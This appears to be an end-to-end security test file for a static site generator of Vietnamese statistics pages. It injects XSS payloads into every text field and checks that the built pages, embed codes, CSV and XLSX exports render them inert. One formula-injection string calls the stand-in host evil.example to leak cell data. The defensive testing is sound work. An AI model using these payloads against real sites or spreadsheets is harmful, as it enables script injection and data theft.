// Hostile data: strings that try to break out of HTML, attributes, <script> blocks, JavaScript
// strings and URLs must come out as plain visible text, never as code, on every kind of page.
//
// The sample site is copied to a temp dir; every text field of every kind of file (config.toml,
// data/*.toml, data/periods/, data/targets/, content/ front matter and body) gets one of PAYLOADS
// with a number of its own, the first indicator's name becomes `</script><script>alert(1)</script>`
// and the second's `"; alert(1); "`, and the site is built with
// `go run . build --source TMP --out TMP/public`. One page of every kind (every period kind of
// article, every kind of embed under nhung/) is opened twice: once with the site's CSP (everything
// must be clean) and once WITHOUT any CSP, so that an escaping bug would really execute (open a
// dialog or set window.__xss) rather than being hidden by the policy. The embed codes and the
// article's HTML excerpt are then pasted into a page of another origin.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { start } from './server.mjs';
import { pageKind, htmlFiles as relHtmlFiles, drawAllCharts } from './sitepages.mjs';
import yauzl from 'yauzl';
import {
  REPO,
  readBasePath,
  mkTemp,
  goBuild,
  launch,
  watchedPage,
  goto,
  checkCharts,
  report,
} from './helpers.mjs';

export const HOSTILE = ['</script><script>alert(1)</script>', '"; alert(1); "'];
// Names a spreadsheet would evaluate if a CSV cell started with them (formula injection):
// given to the next indicators, then looked for in the downloads.
export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '@SUM(1,2)'];

// What every other text field gets, each with " #N" after it so that no two names are equal.
// Each runs script if it is ever written as markup: alert(1) opens a dialog, __xss=1 sets a flag.
export const PAYLOADS = [
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '<svg onload=__xss=1>',
  'javascript:alert(1)',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '{{.Site.Config}}',
  '__f__function(){alert(1)}__f__',
  "\u202eabc'; alert(1); '",
  '`${alert(1)}`',
];

// The free-text keys of each kind of file (keys, codes, dates and enums are left alone).
const TEXT_KEYS = [
  [/^config\.toml$/, ['title', 'author', 'index_name', 'index_short']],
  [/^data\/documents\.toml$/, ['title', 'type', 'number', 'issuer']],
  [/^data\/entities\.toml$/, ['name', 'short', 'source_tag', 'note']],
  [/^data\/indicators\.toml$/, ['name', 'short', 'counts', 'definition']],
  [/^data\/levels\.toml$/, ['name']],
  [/^data\/units\.toml$/, ['name']],
  [/^data\/periods\/[^/]+\.toml$/, ['author', 'issuer', 'number', 'type', 'source', 'source_short', 'source_system']],
  [/^data\/targets\/[^/]+\.toml$/, ['title', 'name']],
  [/^content\/.*\.md$/, ['title', 'summary']],
];
// Values of those keys that are words of the format, not text: `source = "portal"`.
const ENUMS = new Set(['system', 'portal']);

/**
 * Put a PAYLOADS string in every text field of every kind of file under dir, and all of them
 * in the body of every Markdown page. Returns the number of fields poisoned.
 */
export function poisonSite(dir) {
  let n = 0;
  const walk = (rel) => {
    const abs = path.join(dir, rel);
    if (fs.statSync(abs).isDirectory()) {
      for (const e of fs.readdirSync(abs).sort()) walk(rel ? `${rel}/${e}` : e);
      return;
    }
    const keys = TEXT_KEYS.find(([re]) => re.test(rel))?.[1];
    if (!keys) return;
    let text = fs.readFileSync(abs, 'utf8');
    const re = new RegExp(`^(\\s*(?:${keys.join('|')})\\s*=\\s*)"((?:[^"\\\\\\n]|\\\\.)*)"`, 'gm');
    text = text.replace(re, (line, head, old) => {
      if (ENUMS.has(old)) return line;
      const s = `${PAYLOADS[n % PAYLOADS.length]} #${n}`;
      n++;
      return head + tomlString(s);
    });
    // Raw in the body: Markdown's HTML must not pass through either.
    if (rel.endsWith('.md')) text += '\n\n' + PAYLOADS.join('\n\n') + '\n\n[x](javascript:alert(1))\n';
    fs.writeFileSync(abs, text);
  };
  for (const top of ['config.toml', 'data', 'content']) walk(top);
  return n;
}

// What the site is made of. Required ones must exist; optional ones are copied when present.
const REQUIRED = ['config.toml', 'data', 'content', 'templates'];
const OPTIONAL = ['static', 'assets', 'i18n'];

let tmp, outDir, base, browser, servers, indicatorPages;

/** A TOML basic string holding s. */
export function tomlString(s) {
  return (
    '"' +
    s.replace(/[\\"\u0000-\u001f\u007f]/g, (c) => {
      if (c === '\\') return '\\\\';
      if (c === '"') return '\\"';
      return '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0');
    }) +
    '"'
  );
}

/**
 * Replace the `name = …` of the first two indicator tables in indicators.toml. An indicator
 * table is an array-of-tables entry ([[…]]); each name must be the first `name` key of its entry.
 */
export function poisonIndicators(text, names) {
  const lines = text.split('\n');
  const keyRe = /^(\s*name\s*=\s*)("(?:[^"\\\n]|\\.)*"|'[^'\n]*')(\s*(?:#.*)?)$/;
  let inEntry = false;
  let doneThisEntry = false;
  const replaced = [];
  for (let i = 0; i < lines.length && replaced.length < names.length; i++) {
    const line = lines[i];
    if (/^\s*\[\[[^\]]+\]\]\s*(#.*)?$/.test(line)) {
      inEntry = true;
      doneThisEntry = false;
      continue;
    }
    if (/^\s*\[[^\[]/.test(line)) {
      // A plain [table] header: only its own nested keys follow; not an indicator entry.
      inEntry = /^\s*\[\s*indicators?\s*\.\s*[^\]]+\]/.test(line);
      doneThisEntry = false;
      continue;
    }
    if (!inEntry || doneThisEntry) continue;
    const m = line.match(keyRe);
    if (!m) continue;
    const old = m[2].startsWith('"') ? JSON.parse(m[2]) : m[2].slice(1, -1);
    lines[i] = m[1] + tomlString(names[replaced.length]) + m[3];
    replaced.push({ line: i + 1, old, new: names[replaced.length] });
    doneThisEntry = true;
  }
  if (replaced.length < names.length) {
    throw new Error(`indicators.toml: found only ${replaced.length} indicator name(s) to replace`);
  }
  return { text: lines.join('\n'), replaced };
}

function decodeEntities(s) {
  return s
    .replace(/&#(\d+);/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&apos;/g, "'")
    .replace(/&nbsp;/g, '\u00a0')
    .replace(/&amp;/g, '&');
}

/** Every file under dir whose name ends with ext. */
function filesEnding(dir, ext) {
  const out = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) out.push(...filesEnding(p, ext));
    else if (e.name.endsWith(ext)) out.push(p);
  }
  return out;
}

const htmlFiles = (dir) => filesEnding(dir, '.html');

/** URL path (relative to the base) of the indicator page whose <h1> shows `name`. */
function findIndicatorPage(name) {
  const root = path.join(outDir, 'chi-tieu');
  assert.ok(fs.existsSync(root), `no chi-tieu/ in the build output ${outDir}`);
  for (const f of htmlFiles(root)) {
    const html = fs.readFileSync(f, 'utf8');
    const h1 = html.match(/<h1[^>]*>([\s\S]*?)<\/h1>/i);
    if (h1 && decodeEntities(h1[1].replace(/<[^>]*>/g, '')).includes(name)) {
      const rel = path.relative(outDir, f).split(path.sep).join('/');
      return rel.replace(/index\.html$/, '');
    }
  }
  return null;
}

before(async () => {
  tmp = mkTemp('chiso-e2e-hostile-');
  for (const name of [...REQUIRED, ...OPTIONAL]) {
    const from = path.join(REPO, name);
    if (!fs.existsSync(from)) {
      assert.ok(!REQUIRED.includes(name), `the sample site has no ${name}`);
      continue;
    }
    fs.cpSync(from, path.join(tmp, name), { recursive: true });
  }
  // In case the build takes ECharts from the source's node_modules.
  if (fs.existsSync(path.join(REPO, 'node_modules'))) {
    fs.symlinkSync(path.join(REPO, 'node_modules'), path.join(tmp, 'node_modules'), 'dir');
  }
  const fields = poisonSite(tmp);
  console.log(`# ${fields} text fields poisoned`);
  assert.ok(fields >= 150, `only ${fields} text fields poisoned`);
  const indFile = path.join(tmp, 'data', 'indicators.toml');
  const poisoned = poisonIndicators(fs.readFileSync(indFile, 'utf8'), [...HOSTILE, ...FORMULAS]);
  fs.writeFileSync(indFile, poisoned.text);
  for (const r of poisoned.replaced) {
    console.log(`# indicators.toml:${r.line}: ${JSON.stringify(r.old)} -> ${JSON.stringify(r.new)}`);
  }

  base = readBasePath(path.join(tmp, 'config.toml'));
  outDir = path.join(tmp, 'public');
  const b = goBuild(['--source', tmp, '--out', outDir]);
  console.log(`# built hostile site into ${outDir} in ${b.ms} ms`);

  indicatorPages = HOSTILE.map((n) => {
    const rel = findIndicatorPage(n);
    assert.ok(rel, `no page under chi-tieu/ has an <h1> showing ${JSON.stringify(n)}`);
    return rel;
  });

  servers = {
    csp: await start({ root: outDir, base, csp: true }),
    none: await start({ root: outDir, base, csp: false }),
  };
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await servers?.csp?.close();
  await servers?.none?.close();
  if (tmp && !process.env.KEEP_E2E) fs.rmSync(tmp, { recursive: true, force: true });
});

// Every kind of page a reader can land on (README, "The site"): articles by period kind, the
// embeds under nhung/ by what they show. The test fails when one of them is not in the build.
const KINDS = [
  'home', '404', 'page', 'data', 'search', 'archive', 'archive-year', 'indicators', 'indicator',
  'units', 'unit', 'summary', 'plan', 'ranking', 'unit scores',
  'article month', 'article quarter', 'article year', 'article week', 'article day', 'article range',
  'embed article', 'embed indicator', 'embed unit', 'embed summary', 'embed home',
  // The English edition's twins of the pages above that are built from their bodies.
  'en-units', 'en-unit', 'en-summary', 'en-ranking', 'en-data', 'en-search',
];
// A ranking's charts have no embed of their own: their old nhung/xep-hang-…/ addresses are
// redirect pages to the chart on its ranking page, which is visited as 'ranking'.

const PERIOD_KINDS = [
  [/^\d{4}$/, 'year'],
  [/^\d{4}-\d{2}$/, 'month'],
  [/^\d{4}-q\d$/, 'quarter'],
  [/^\d{4}-w\d{1,2}$/, 'week'],
  [/^\d{4}-\d{2}-\d{2}$/, 'day'],
  [/^\d{4}-\d{2}-\d{2}--\d{4}-\d{2}-\d{2}$/, 'range'],
];
const EMBED_KINDS = [
  [/^bai-/, 'article'],
  [/^chi-tieu-/, 'indicator'],
  [/^don-vi-/, 'unit'],
  [/^tong-hop-/, 'summary'],
  [/^trang-chu-/, 'home'],
  [/^xep-hang-/, 'ranking'],
];

/** The kind of page of a file of the build (relative path, "/" separators). */
function kindOf(rel) {
  const parts = rel.split('/');
  const k = pageKind(rel);
  if (k === 'article') {
    if (parts[2] === 'diem-don-vi') return 'unit scores';
    return `article ${PERIOD_KINDS.find(([re]) => re.test(parts[1]))?.[1] ?? parts[1]}`;
  }
  if (k === 'page' && parts[0] === 'muc-tieu') return 'plan';
  if (k === 'embed') return `embed ${EMBED_KINDS.find(([re]) => re.test(parts[1]))?.[1] ?? parts[1]}`;
  return k;
}

/** The kind of embed an embed code points at ("embed ranking"), from its nhung/NAME/ address. */
function embedKindOf(code) {
  const m = /\/nhung\/([^/"]+)\//.exec(code);
  return m ? kindOf(`nhung/${m[1]}/index.html`) : null;
}

let visits; // [name, path, expectText]: one page of every kind

/** One page of every kind, the two hostile indicators' pages, and search results. */
function chooseVisits() {
  const byKind = new Map();
  for (const rel of relHtmlFiles(outDir)) {
    const head = fs.readFileSync(path.join(outDir, rel), 'utf8').slice(0, 1000);
    if (!/^\s*<!doctype html>/i.test(head)) continue; // fragments
    if (/<meta http-equiv="refresh"/i.test(head)) continue; // redirects navigate away as they load
    const kind = kindOf(rel);
    if (!byKind.has(kind)) byKind.set(kind, rel === 'index.html' ? '' : rel.replace(/index\.html$/, ''));
  }
  const missing = KINDS.filter((k) => !byKind.has(k));
  assert.deepEqual(missing, [], `the build has no page of these kinds: ${missing.join(', ')}`);
  const out = [...byKind].map(([kind, p]) => [`${kind} ${p || '/'}`, p, []]);
  out.push(...indicatorPages.map((p, i) => [`indicator ${p}`, p, [HOSTILE[i]]]));
  // The search page with results: titles and excerpts are built by search.js from the index.
  out.push(['search results tim-kiem/?q=alert', 'tim-kiem/?q=alert', []]);
  out.push(['English search results en/tim-kiem/?q=alert', 'en/tim-kiem/?q=alert', []]);
  return out;
}

/** Wait for whatever a page builds in the browser, then the payloads its text shows. */
async function shown(page, p) {
  if (p.startsWith('tim-kiem/?')) await page.waitForSelector('#ket-qua:not([hidden]) li');
  const text = await page.evaluate(() => document.body.innerText);
  return [...PAYLOADS, ...HOSTILE].filter((s) => text.includes(s));
}

/** Whether a script of the data ran in the page or any of its frames (a payload sets __xss). */
async function xssFlags(page) {
  const out = [];
  for (const f of page.frames()) {
    if (await f.evaluate(() => window.__xss !== undefined).catch(() => false)) out.push(f.url());
  }
  return out;
}

test('no built page contains the payload as markup', () => {
  const bad = [];
  for (const f of htmlFiles(outDir)) {
    const html = fs.readFileSync(f, 'utf8');
    if (/<script>alert\(1\)|<img src=x|<svg onload|<iframe srcdoc/i.test(html)) bad.push(path.relative(outDir, f));
  }
  assert.deepEqual(bad, [], `raw payload markup in: ${bad.join(', ')}`);
});

test('with CSP: on every kind of page the hostile strings show as text, no errors, charts draw', async () => {
  visits = chooseVisits();
  for (const [name, p, expectText] of visits) {
    const url = servers.csp.url + p;
    const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 } });
    try {
      const { page, problems } = await watchedPage(ctx);
      await goto(page, url);
      assert.ok((await shown(page, p)).length > 0, `${name}: no hostile string shows as text: the page checks nothing`);
      for (const t of expectText) {
        const loc = page.getByText(t, { exact: false }).first();
        assert.ok(await loc.isVisible(), `${name}: ${JSON.stringify(t)} is not visible as text`);
      }
      const charts = await checkCharts(page);
      const all = [...(await problems()), ...charts.problems];
      assert.deepEqual(all, [], report(`${name} (${url})`, all));
    } finally {
      await ctx.close();
    }
  }
});

// The embed codes ("mã nhúng") the pages offer, one per kind of embed, as the browser reads
// them from their <textarea> (entities decoded, as a webmaster's copy would be).
const embedCodes = new Map();

test('without CSP: on every kind of page no script of the data runs, no dialog opens, nothing breaks', async () => {
  assert.ok(visits, 'the CSP test chose no pages');
  for (const [name, p] of visits) {
    const url = servers.none.url + p;
    const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 } });
    try {
      const { page, problems, dialogs } = await watchedPage(ctx);
      await goto(page, url);
      assert.ok((await shown(page, p)).length > 0, `${name}: no hostile string shows as text`);
      const charts = await checkCharts(page);
      await page.mouse.move(400, 300); // a payload waiting for onmouseover
      assert.deepEqual(dialogs, [], `${name}: a dialog opened: ${dialogs.join('; ')}`);
      assert.deepEqual(await xssFlags(page), [], `${name}: a payload set window.__xss`);
      const all = [...(await problems()), ...charts.problems];
      assert.deepEqual(all, [], report(`${name} without CSP (${url})`, all));
      for (const code of await page.$$eval('textarea.embed-code', (ts) => ts.map((t) => t.value))) {
        const kind = embedKindOf(code);
        if (kind && !embedCodes.has(kind)) embedCodes.set(kind, code);
      }
    } finally {
      await ctx.close();
    }
  }
});

test('embed codes and the article excerpt pasted into a page of another origin: no script gained or run, the embeds draw and show the strings as text', async () => {
  // Every kind of embed code, pointed at the server without CSP, and an article's HTML excerpt
  // (doan-trich.html, meant for a portal's CMS), pasted into a page served from another port:
  // another origin, as on a portal's CMS.
  const kinds = KINDS.filter((k) => k.startsWith('embed '));
  const noCode = kinds.filter((k) => !embedCodes.has(k));
  assert.deepEqual(noCode, [], `no page offers an embed code for: ${noCode.join(', ')}`);
  const codes = kinds.map((k) => embedCodes.get(k));
  const siteRoot = /src="(https?:\/\/[^"]*?\/)nhung\//.exec(codes[0]);
  assert.ok(siteRoot, `embed code without an iframe of nhung/: ${codes[0]}`);
  const pasted = codes.map((c) => c.split(siteRoot[1]).join(servers.none.url)).join('\n');
  const excerpt = fs.readFileSync(path.join(outDir, 'bai-viet', '2024-04', 'doan-trich.html'), 'utf8');

  const ctx = await browser.newContext({ viewport: { width: 1366, height: 900 } });
  const http = await import('node:http');
  const host = http.createServer((req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(`<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng khác</title></head><body><h1>Trang của cổng</h1>${excerpt}${pasted}</body></html>`);
  });
  await new Promise((r) => host.listen(0, '127.0.0.1', r));
  try {
    const hostURL = `http://127.0.0.1:${host.address().port}/`;
    assert.notEqual(new URL(hostURL).origin, new URL(servers.none.url).origin);

    const { page, dialogs } = await watchedPage(ctx);
    await goto(page, hostURL);
    assert.equal(await page.locator('script').count(), 0, 'the pasted code added a script to the host page');
    const handlers = await page.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((e) =>
        [...e.attributes].filter((a) => /^on/i.test(a.name) || /^\s*javascript:/i.test(a.value)).map((a) => `<${e.localName} ${a.name}>`),
      ),
    );
    assert.deepEqual(handlers, [], 'the pasted code carries event handlers or javascript: addresses');
    const srcs = await page.$$eval('iframe', (fs) => fs.map((f) => f.getAttribute('src')));
    assert.equal(srcs.length, codes.length, 'one iframe per embed code');
    for (const s of srcs) assert.ok(s.startsWith(servers.none.url + 'nhung/'), `iframe of ${s}`);
    const hostText = await page.evaluate(() => document.body.innerText);
    assert.ok([...PAYLOADS, ...HOSTILE].some((s) => hostText.includes(s)), 'the excerpt shows no hostile string as text');

    for (const [i, kind] of kinds.entries()) {
      const el = page.locator('iframe').nth(i);
      await el.scrollIntoViewIfNeeded(); // loading="lazy"
      const frame = await (await el.elementHandle()).contentFrame();
      await frame?.waitForLoadState('load');
      assert.ok(frame && frame.url().startsWith(servers.none.url), `${kind}: the embed did not load from the site`);
      const charts = await drawAllCharts(frame);
      assert.ok(charts + (await frame.locator('table').count()) > 0, `${kind}: the embed shows no chart`);
      const failed = await frame.locator('.chart-canvas[data-drawn="error"]').count();
      assert.equal(failed, 0, `${kind}: ${failed} chart(s) failed to draw`);
      const text = await frame.evaluate(() => document.body.innerText);
      assert.ok([...PAYLOADS, ...HOSTILE].some((s) => text.includes(s)), `${kind}: no hostile string shows as text in the embed`);
    }
    await page.mouse.move(400, 300);
    assert.deepEqual(dialogs, [], `a dialog opened: ${dialogs.join('; ')}`);
    assert.deepEqual(await xssFlags(page), [], 'a payload set window.__xss');
  } finally {
    await ctx.close();
    await new Promise((r) => host.close(r));
  }
});

/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF) into rows of cells. */
function parseCSV(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

test('CSV downloads: no text cell starts a formula; the names are there, made inert', () => {
  const bad = [];
  let inert = 0;
  for (const f of filesEnding(outDir, '.csv')) {
    const rows = parseCSV(fs.readFileSync(f, 'utf8').replace(/^\ufeff/, ''));
    for (const row of rows) {
      for (const cell of row) {
        if (/^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell))) bad.push(`${path.relative(outDir, f)}: ${cell}`);
        if (FORMULAS.some((n) => cell === "'" + n)) inert++;
      }
    }
  }
  assert.deepEqual(bad.slice(0, 10), [], `${bad.length} cells would run as formulas`);
  assert.ok(inert > 0, 'no formula-like name found in the CSV files: the test checks nothing');
});

/** The XML of every worksheet of an XLSX file. */
function sheets(file) {
  return new Promise((resolve, reject) => {
    const out = [];
    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
      if (err) return reject(err);
      zip.readEntry();
      zip.on('entry', (entry) => {
        if (!/^xl\/worksheets\/.*\.xml$/.test(entry.fileName) && entry.fileName !== 'xl/sharedStrings.xml') return zip.readEntry();
        zip.openReadStream(entry, (err, stream) => {
          if (err) return reject(err);
          const chunks = [];
          stream.on('data', (c) => chunks.push(c));
          stream.on('end', () => {
            out.push({ name: entry.fileName, xml: Buffer.concat(chunks).toString('utf8') });
            zip.readEntry();
          });
        });
      });
      zip.on('end', () => resolve(out));
    });
  });
}

test('XLSX download: the names are text cells, no cell holds a formula', async () => {
  const parts = await sheets(path.join(outDir, 'du-lieu', 'chi-so.xlsx'));
  assert.ok(parts.some((p) => p.name.startsWith('xl/worksheets/')), 'no worksheet in chi-so.xlsx');
  for (const p of parts) assert.ok(!/<f[ >]/.test(p.xml), `${p.name} holds a formula`);
  const text = decodeEntities(parts.map((p) => p.xml).join(''));
  for (const n of FORMULAS) assert.ok(text.includes(n), `${n} is not in the workbook as text`);
});
